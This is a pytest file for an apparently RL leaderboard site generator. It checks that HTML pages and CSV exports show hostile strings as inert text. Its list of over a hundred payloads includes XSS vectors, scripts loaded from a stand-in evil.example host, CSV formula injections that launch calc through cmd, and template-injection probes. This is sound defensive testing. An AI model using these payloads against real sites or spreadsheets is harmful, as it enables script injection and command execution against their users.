"""Whatever an entry says is text on the page: 100 strings that would be markup, scripts or formulas elsewhere.

A page with such a string must have exactly the elements and attributes of the page with a harmless one, and show the string as it is.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from benchmarks.board import fill, gif, invented
from tests.cases import each
from whorl.apps.board import entry, page
from whorl.errors import BadInput

# In the manner of OWASP's cheat sheet: elements, attributes, handlers, schemes, comments, encodings, templates, broken markup.
STRINGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "<script type=module>import('//evil.example')</script>",
    "</script><script>alert(1)</script>",
    '</script><script type="application/json">{"here":[]}</script>',
    "</SCRIPT ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<!-- <img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><body onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x` onerror=`alert(1)`>",
    "<IMG SRC=javascript:alert('1')>",
    '<IMG """><SCRIPT>alert("1")</SCRIPT>">',
    "<img src=x:x onerror\n=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img lowsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "</text></svg><script>alert(1)</script>",
    "<svg><style>@import '//evil.example'</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<object type=text/x-scriptlet data=//evil.example>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<style>*{background:url(//evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "<style>@import'//evil.example';</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<div style=width:expression(alert(1))>",
    "<xss style=behavior:url(xss.htc)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)><option>",
    "</option></select><script>alert(1)</script>",
    "<textarea autofocus onfocus=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</caption></table><img src=x onerror=alert(1)>",
    "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<frameset onload=alert(1)>",
    "<bgsound src=javascript:alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "x onmouseover=alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    '\\"><script>alert(1)</script>',
    '";alert(1);//',
    "';alert(1);//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__.os }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<\u0131mg src=x onerror=alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\u202e<script>alert(1)</script>",
    "<script\u2028>alert(1)//\u2029</script>",
    "<im\0g src=x onerror=alert(1)>",
    "\x1b]0;title\x07<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    '=HYPERLINK("//evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "__proto__",
    "constructor",
]
HARMLESS = "harmless words"


class Skeleton(HTMLParser):
    """Elements with the names of their attributes, in order; all text and attribute values, unescaped; what lies in data blocks."""

    def __init__(self, html: str):
        super().__init__()
        self.elements: list[tuple] = []
        self.texts: list[str] = [""]
        self.data: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self._in_script = tag == "script"
        self.elements.append((tag, *(name for name, _ in attributes)))
        self.texts += [*(value or "" for _, value in attributes), ""]

    def handle_endtag(self, tag):
        self._in_script = False
        self.elements.append((f"/{tag}",))
        self.texts.append("")

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.data.append(data)
        else:
            self.texts[-1] += data

    def handle_comment(self, data):
        self.elements.append(("comment", data))

    handle_decl = lambda self, decl: self.elements.append(("declaration", decl))  # noqa: E731
    handle_pi = unknown_decl = handle_comment


def hostile(real: entry.Entry, text: str) -> entry.Entry:
    """An entry that says `text` wherever an entry says anything, as if nothing had been checked when it was read."""
    return dataclasses.replace(
        real, env=text, agent=text, author=text, note=text, command=text, commit=text, which=text, created=text,
        config={text: text, "nested": {text: [text, {text: text}]}}, settings={**real.settings, "device": text, text: text},
        versions={text: text, "whorl": text}, machine={"cpu": text, "cpu_count": 2, "system": text},
    )  # fmt: skip


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    board = tmp_path_factory.mktemp("xss") / "board"
    fill(board, ["CartPole-v1"], 1, 1, 4, gifs=False)
    claim, curve = invented(np.random.default_rng(0), "CartPole-v1", 0, 1, 4)
    made = entry.write(
        board, claim | {"gif_returns": {"best": 1, "typical": 2}}, curve, b"x", {"best": gif(2), "typical": gif(2)}
    )
    return made, next(one for one in entry.entries(board)[0] if one.id != made.id)


def written(real, text: str, out: Path) -> dict[str, str]:
    """The pages of two hostile rows of one environment, and of a problem that says the same; by kind."""
    one, other = (hostile(each, text) for each in real)
    other = dataclasses.replace(other, setting="0" * 12, config={text: "else"})
    page.write([one, other], [text], out)
    [env] = (out / "env").iterdir()
    [table] = (out / "data").iterdir()
    assert {path.parent for path in out.rglob("*.html")} == {out, out / "env", out / "run"}
    files = {
        "index": out / "index.html",
        "env": env,
        "run": out / "run" / f"{one.id}.html",
        "other": out / "run" / f"{other.id}.html",
        "csv": table,
    }
    return {kind: file.read_text(encoding="utf-8") for kind, file in files.items()}


@pytest.fixture(scope="module")
def harmless(real, tmp_path_factory):
    found = written(real, HARMLESS, tmp_path_factory.mktemp("harmless") / "out")
    return {kind: Skeleton(html) for kind, html in found.items() if kind != "csv"}


def test_there_are_a_hundred_different_strings():
    assert len(set(STRINGS)) == len(STRINGS) >= 100


def test_a_hostile_string_is_text_and_nothing_else(real, harmless, tmp_path):
    for number, text in enumerate(each(STRINGS)):
        here = tmp_path / str(number)
        here.mkdir()
        found = written(real, text, here / "out")
        seen = text.replace("\ud800", "?")
        for kind, baseline in harmless.items():
            page_of = Skeleton(found[kind])
            assert page_of.elements == baseline.elements, f"{kind}: other markup than with a harmless string"
            shown = [
                part for part in page_of.texts if seen in part or json.dumps(seen, ensure_ascii=False)[1:-1] in part
            ]
            expected = [part for part in baseline.texts if HARMLESS in part]
            assert len(shown) >= len(expected) > 0, f"{kind}: not shown as it is"
            if re.search("[<>\"']", text):
                assert seen not in re.sub('id="settings">.*', "", found[kind]), f"{kind}: unescaped"
        [block] = Skeleton(found["run"]).data
        assert not re.search("[<>&']", block)
        assert text in dict(json.loads(block)["here"]) and text in dict(json.loads(block)["others"][0])
        for row in list(csv.DictReader(io.StringIO(found["csv"], newline="")))[:1]:
            for cell in (row["agent"], row["differences"]):
                assert cell[:1] not in tuple("=+-@\t\r"), "a formula"
            assert row["agent"].removeprefix("'").replace("\r", "\n") == seen.removeprefix("'").replace("\r", "\n")


def test_on_a_real_board_a_hostile_string_is_shown_or_refused(tmp_path):
    for number, text in enumerate(each(STRINGS)):
        here = tmp_path / str(number)
        here.mkdir()
        claim, curve = invented(np.random.default_rng(0), "CartPole-v1", 0, 0, 4)
        claim["gif_returns"] = None
        for field in ("env", "agent"):
            if not re.fullmatch("[a-z]+", text):
                with pytest.raises(BadInput, match=f"this cannot be an entry: .*{field} should be"):
                    entry.write(here / "board", claim | {field: text}, curve, b"x", {})
        claim |= {
            "author": text,
            "note": text,
            "command": text,
            "machine": {"cpu": text, "cpu_count": None, "system": text},
            "config": {"x": text},
        }
        try:
            made = entry.write(here / "board", claim, curve, b"x", {})
        except BadInput as error:
            assert re.search(r"should be .*(without control characters|short lines)", str(error))
            continue
        out = page.export(here / "board", here / "out")
        html = (out / "run" / f"{made.id}.html").read_text(encoding="utf-8")
        assert sum(text in part for part in Skeleton(html).texts) >= 5 and entry.read(made.path).author == text


def test_metric_keys_of_a_damaged_entry_are_text(tmp_path):
    claim, curve = invented(np.random.default_rng(0), "CartPole-v1", 0, 0, 4)
    made = entry.write(tmp_path / "board", claim | {"gif_returns": None}, curve, b"x", {})
    for number, text in enumerate(STRINGS):
        folder = tmp_path / "board" / "entries" / f"{number:016x}"
        folder.mkdir()
        for name in ("entry.json", "curve.json", "policy.safetensors"):
            (folder / name).write_bytes((made.path / name).read_bytes())
        data = json.loads((folder / "entry.json").read_text())
        (folder / "entry.json").write_text(json.dumps({**data, text: 1}))
    good, problems = entry.entries(tmp_path / "board")
    assert len(good) == 1 and len(problems) == len(STRINGS)
    found = Skeleton((page.export(tmp_path / "board", tmp_path / "out") / "index.html").read_text())
    assert {element[0] for element in found.elements} <= {
        "declaration", "html", "/html", "head", "/head", "meta", "title", "/title", "link", "script", "/script", "body", "/body", "a", "/a",
        "header", "/header", "nav", "/nav", "img", "main", "/main", "h1", "/h1", "p", "/p", "div", "/div", "table", "/table", "caption",
        "/caption", "span", "/span", "thead", "/thead", "tbody", "/tbody", "tr", "/tr", "th", "/th", "td", "/td", "bdi", "/bdi", "b", "/b",
        "section", "/section", "h2", "/h2", "ul", "/ul", "li", "/li", "footer", "/footer", "code", "/code",
    }  # fmt: skip
    assert found.elements.count(("li",)) == len(STRINGS)
